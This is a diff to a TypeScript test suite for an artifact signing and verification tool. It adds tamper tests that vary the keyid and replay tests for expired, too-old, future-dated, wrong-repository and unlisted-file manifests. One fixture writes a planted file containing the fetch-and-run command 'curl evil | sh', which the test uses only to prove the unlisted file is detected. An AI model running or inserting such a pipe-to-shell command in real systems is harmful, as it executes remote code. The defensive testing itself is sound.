@@ -160,14 +160,15 @@ test('tamper: re-encoding the same bytes differently never makes a bad signature
   try {
     await checkAsyncProperty(
       t,
-      'bad signatures and payloads stay bad in every base64 spelling; good ones pass only in accepted spellings',
+      'bad signatures and payloads stay bad in every base64 spelling and under any keyid; good ones pass only in accepted spellings',
       fc.asyncProperty(
         fc.constantFrom('good', 'flipped', 'random', 'truncated', 'extended'),
         fc.nat(),
         fc.integer({ min: 1, max: 255 }),
         fc.boolean(),
         fc.uint8Array({ minLength: 1, maxLength: 64 }),
-        async (kind, at, delta, respellPayload, random) => {
+        fc.oneof(fc.constant(null), fc.string({ maxLength: 40 })),
+        async (kind, at, delta, respellPayload, random, keyid) => {
           const envelope = JSON.parse(manifest.toString()) as Envelope
           const good = Buffer.from(envelope.signatures[0].sig, 'base64')
           let sig: Buffer = Buffer.from(good)
@@ -180,6 +181,8 @@ test('tamper: re-encoding the same bytes differently never makes a bad signature
             const e = structuredClone(envelope)
             e.signatures[0].sig = spelled.text
             if (respellPayload) e.payload = Buffer.from(envelope.payload, 'base64').toString('base64url')
+            // keyid is an unauthenticated hint: a wrong or unknown one changes nothing either way.
+            if (keyid !== null) e.signatures[0].keyid = keyid
             const report = await verifyWith(dir, manifestPath, reencode(e), 'sha256')
             const shouldPass = sigIsGood && spelled.accepted && spelled.text.length > 0
             assert.equal(report.result, shouldPass ? 'verified' : 'failed', `${kind} sig spelled ${JSON.stringify(spelled.text)}: ${codes(report).join(', ')}`)
@@ -193,6 +196,32 @@ test('tamper: re-encoding the same bytes differently never makes a bad signature
     assert.deepEqual(codes(other), ['SIGNATURE_INVALID'])
     const wrongKey = await verify({ manifestPath, manifestBytes: manifest, baseDir: dir, algorithm: 'sha256', keys: [key(OTHER_KEY_HEX, 'sha256')] })
     assert.deepEqual(codes(wrongKey), ['SIGNATURE_INVALID'])
+  } finally {
+    fs.rmSync(dir, { recursive: true, force: true })
+  }
+})
+
+test('replay: a validly signed manifest that expired, is older than max-age, comes from another repository or commit, or misses a planted file fails', async () => {
+  const dir = tempDir('artifact-seal-replay-')
+  try {
+    fs.writeFileSync(path.join(dir, 'app.bin'), 'v1')
+    const algorithm = 'sha256'
+    const outcomes = await hashMany(dir, ['app.bin'], algorithm)
+    const created = new Date('2026-01-01T00:00:00Z')
+    const statement = buildStatement(outcomes.map(o => (o.ok ? o.value : assert.fail(o.error))), algorithm, CONTEXT, created, 3600_000)
+    const { bytes } = await signStatement(statement, [key(TEST_KEY_HEX, algorithm)])
+    const manifestPath = path.join(dir, 'artifact-seal.json')
+    fs.writeFileSync(manifestPath, bytes)
+    const run = (extra: Partial<Parameters<typeof verify>[0]>) =>
+      verify({ manifestPath, baseDir: dir, algorithm, keys: [key(TEST_KEY_HEX, algorithm)], now: new Date(created.getTime() + 60_000), ...extra }).then(codes)
+    assert.deepEqual(await run({}), [], 'the control: within its lifetime, from the expected place, it verifies')
+    assert.deepEqual(await run({ now: new Date(created.getTime() + 3600_000) }), ['EXPIRED'])
+    assert.deepEqual(await run({ maxAgeMs: 30_000 }), ['TOO_OLD'])
+    assert.deepEqual(await run({ now: new Date(created.getTime() - 3600_000), maxAgeMs: 30_000 }), ['CREATED_IN_FUTURE'])
+    assert.deepEqual(await run({ expectedRepository: 'evil/fork', expectedCommit: 'd'.repeat(40) }), ['REPOSITORY_MISMATCH', 'COMMIT_MISMATCH'])
+    fs.writeFileSync(path.join(dir, 'planted.sh'), 'curl evil | sh')
+    assert.deepEqual(await run({ patterns: [path.join(dir, '**')] }), ['UNLISTED_FILE'])
+    assert.deepEqual(await run({ patterns: [path.join(dir, '**')], allowUnlisted: true }), [])
   } finally {
     fs.rmSync(dir, { recursive: true, force: true })
   }
